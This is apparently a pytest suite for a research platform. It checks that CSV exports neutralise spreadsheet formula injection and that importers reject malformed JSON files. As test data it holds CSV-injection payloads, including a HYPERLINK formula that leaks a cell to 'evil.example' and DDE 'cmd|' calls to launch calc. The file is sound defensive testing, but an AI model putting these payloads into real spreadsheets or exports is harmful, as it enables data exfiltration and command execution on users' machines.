"""Attack suite, data side: hostile names in exports and plots, hostile files for the importers.

Names from the data (systems, questions, campaigns) reach CSV files opened in spreadsheets and plot
labels drawn by matplotlib; researchers' files reach the importers. On SQLite and PostgreSQL.
"""
from __future__ import annotations

import csv
import io
import zipfile
from datetime import timedelta

import pytest
from sqlalchemy import select, update

from analysis.csv_safety import FORMULA_STARTS, cell
from analysis.output import write_report
from da_platform.config.accounts import create_user
from da_platform.db.models import Campaign, Question, System
from da_platform.exports import files as exports
from da_platform.results.campaign_analysis import CampaignAnalysis
from tests import dashboard_factories as factories
from tests.import_files import BASE_TEST_SET, database_snapshot, write
from tests.web_factories import make_web_env

# System names as a hostile data file could give them: spreadsheet formulas, and mathtext for plots.
HOSTILE_SYSTEMS = {
    "strong": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "good": "+cmd|' /C calc'!A0",
    factories.SCRIPT: "$\\frac{unbalanced $ price",
    "weak": "@SUM(1+1)",
}
HOSTILE_QUESTION_ID = "-2+3+cmd|' /C calc'!A0"


def _formula_cells(content: bytes) -> list[str]:
    """Cells a spreadsheet would run as a formula (plain numbers such as -0.5 are not)."""
    found = []
    for row in csv.reader(io.StringIO(content.decode("utf-8"))):
        found += [value for value in row if value.startswith(FORMULA_STARTS) and cell(value) != value]
    return found


def _rated_with_names(env, systems: dict[str, str], **first_question: str) -> int:
    """``factories.build``'s campaign (2 passes) with four HITs rated, its systems renamed by ``systems`` and
    its first question given ``first_question``'s values, as no importer would store them; its id."""
    with env.sessions() as session:
        campaign = factories.build(session, env.storage, passes=2, hostile=False)
        for i, worker in enumerate(["careful", "steady", "careless", "calm"]):
            factories.rate_hit(session, campaign, i, worker,
                               factories.careless if worker == "careless" else factories.good,
                               seed=i, start=factories.START + timedelta(hours=i))
        for old, new in systems.items():
            session.execute(update(System).where(System.name == old).values(name=new))
        first = session.scalars(select(Question.id).order_by(Question.id)).first()
        session.execute(update(Question).where(Question.id == first).values(**first_question))
        session.commit()
        return campaign.id


def test_csv_cells_are_neutralised_and_numbers_left_alone():
    assert cell("=1+1") == "'=1+1" and cell("+x") == "'+x" and cell("@A1") == "'@A1" and cell("\t=1") == "'\t=1"
    assert cell("-1+cmd") == "'-1+cmd" and cell("\r=1") == "'\r=1"
    for number in ("-0.25", "+3", "-1e-05", "-inf", "nan", "12", "-.5"):
        assert cell(number) == number
    assert cell(-0.25) == -0.25 and cell(None) is None and cell("") == "" and cell("plain = text") == "plain = text"


@pytest.mark.slow
def test_hostile_names_in_exports_plots_and_the_dashboard(database_url, tmp_path):
    """Items 6 and 7: every CSV export neutralises formula cells; a ``$`` in a name draws as a ``$``."""
    env = make_web_env(database_url, tmp_path)
    campaign_id = _rated_with_names(env, HOSTILE_SYSTEMS, external_id=HOSTILE_QUESTION_ID)
    with env.sessions() as session:
        create_user(session, "ana", "correct horse battery staple")
        session.commit()

    with env.sessions() as session:
        campaign = session.get(Campaign, campaign_id)
        files = {"ratings.csv": exports.ratings(session, campaign, partial=True).content,
                 "ranking.csv": exports.ranking(session, campaign, "csv", partial=True).content}
        bundle = zipfile.ZipFile(io.BytesIO(exports.bundle(session, campaign, partial=True).content))
        files.update({f"bundle/{n}": bundle.read(n) for n in bundle.namelist() if n.endswith(".csv")})
        result = CampaignAnalysis(session, campaign).result
    assert {"bundle/hits.csv", "bundle/ratings.csv", "bundle/results/system-scores.csv"} <= set(files)
    for name, content in files.items():
        assert _formula_cells(content) == [], name
    ranking = files["ranking.csv"].decode()
    assert "'=HYPERLINK(" in ranking and "'+cmd|" in ranking and "'@SUM(1+1)" in ranking
    assert "'" + HOSTILE_QUESTION_ID in files["ratings.csv"].decode()
    rows = list(csv.DictReader(io.StringIO(ranking)))
    assert len(rows) == 4 and all(isinstance(float(row["z"]), float) for row in rows)  # numbers stay numbers
    assert any(row["z"].startswith("-") for row in rows)

    report = write_report(result, tmp_path / "report", plots=True)  # mathtext would fail on the "$"
    assert any(path.suffix == ".png" for path in report)

    client = env.app.test_client()
    token = client.get("/admin/login").text.split('name="csrf_token" value="')[1].split('"')[0]
    client.post("/admin/login", data={"csrf_token": token, "username": "ana",
                                      "password": "correct horse battery staple"})
    for _ in range(2):  # the dashboard stays up (it answered 500 on every request)
        heatmap = client.get(f"/admin/campaigns/{campaign_id}/pvalues.png")
        assert heatmap.status_code == 200 and heatmap.mimetype == "image/png"
        assert client.get(f"/admin/campaigns/{campaign_id}").status_code == 200


# Names with line breaks before a formula. No importer lets one in today; the writers must not rely on that.
BROKEN_SYSTEMS = {"strong": f"strong\r{HOSTILE_SYSTEMS['strong']}", "good": "good\r\n+cmd|' /C calc'!A0",
                  factories.SCRIPT: "mid\n@SUM(1+1)", "weak": "\r=1+1"}


@pytest.mark.slow
def test_a_line_break_in_a_name_never_splits_an_exported_csv_row(database_url, tmp_path):
    """A bare carriage return was written unquoted: the row split there, and the next began with an
    un-neutralised ``=…``. Every CSV export is read here as a spreadsheet reads it (rows end at ``\n``,
    ``\r\n`` or a bare ``\r`` outside quotes): each row has the header's cells, no cell is a formula."""
    env = make_web_env(database_url, tmp_path)
    campaign_id = _rated_with_names(env, BROKEN_SYSTEMS, external_id="q\r=2+3", text="Why\r=1?")
    with env.sessions() as session:
        campaign = session.get(Campaign, campaign_id)
        files = {"ratings.csv": exports.ratings(session, campaign, partial=True).content,
                 "ratings-with-texts.csv": exports.ratings(session, campaign, partial=True, with_texts=True).content,
                 "ranking.csv": exports.ranking(session, campaign, "csv", partial=True).content}
        bundle = zipfile.ZipFile(io.BytesIO(exports.bundle(session, campaign, partial=True).content))
        files.update({f"bundle/{n}": bundle.read(n) for n in bundle.namelist()
                      if n.endswith(".csv") and "/wmt/" not in n})  # (WMT's files: names made safe, spaced)
    assert {"bundle/hits.csv", "bundle/ratings.csv", "bundle/results/system-scores.csv"} <= set(files)
    names = set(BROKEN_SYSTEMS.values())
    for name, content in files.items():
        rows = list(csv.reader(io.StringIO(content.decode("utf-8"), newline="")))
        assert {len(row) for row in rows} == {len(rows[0])}, name
        cells = [value for row in rows for value in row]
        assert [v for v in cells if v.startswith(FORMULA_STARTS) and cell(v) != v] == [], name
    ranking = {row["system"] for row in csv.DictReader(io.StringIO(files["ranking.csv"].decode(), newline=""))}
    assert ranking == {cell(n) for n in names}  # every name whole in its cell ("\r=1+1" neutralised)


# Hostile files for the importers ------------------------------------------------------------------

DEEP = "[" * 100_000 + "]" * 100_000
HOSTILE_TEST_SETS = {
    "nested 100,000 deep": '{"id": "a1", "question": "q", "references": ' + DEEP + '}\n',
    "5,000-digit id": '{"id": ' + "9" * 5000 + ', "question": "q", "references": ["r"]}\n',
    "lone surrogate in a question": '{"id": "a1", "question": "bad \\ud800 text", "references": ["r"]}\n',
    "lone surrogate in a reference": '{"id": "a1", "question": "q", "references": ["ok", "\\udfff"]}\n',
    "lone surrogate in a key": '{"id": "a1", "question": "q", "references": ["r"], "\\ud83d": 1}\n',
}


@pytest.mark.parametrize("case", list(HOSTILE_TEST_SETS))
def test_hostile_test_set_files_get_a_file_line_error(run, sessions, tmp_path, case):
    """Item 8: a clean ``file:line`` error, nothing imported, never a traceback."""
    assert run("import", "test-set", str(write(tmp_path, "base.jsonl", BASE_TEST_SET))).exit_code == 0
    before = database_snapshot(sessions)
    path = write(tmp_path, "hostile.jsonl", BASE_TEST_SET + HOSTILE_TEST_SETS[case])
    result = run("import", "test-set", str(path))
    assert result.exit_code == 1
    assert f"{path}:4: " in result.output and "nothing was imported" in result.output
    assert "Traceback" not in result.output
    assert database_snapshot(sessions) == before


@pytest.mark.parametrize("answer", ['"\\ud800"', DEEP, "9" * 5000], ids=["lone surrogate", "deep", "long number"])
def test_hostile_answer_files_get_a_file_line_error(run, sessions, tmp_path, answer):
    assert run("import", "test-set", str(write(tmp_path, "base.jsonl", BASE_TEST_SET))).exit_code == 0
    before = database_snapshot(sessions)
    lines = [f'{{"id": "a{i}", "answer": "fine"}}' for i in (1, 2)] + [f'{{"id": "a3", "answer": {answer}}}']
    path = write(tmp_path, "sys.jsonl", "\n".join(lines) + "\n")
    result = run("import", "answers", "--test-set", "base", str(path))
    assert result.exit_code == 1 and f"{path}:3: " in result.output and "Traceback" not in result.output
    assert database_snapshot(sessions) == before
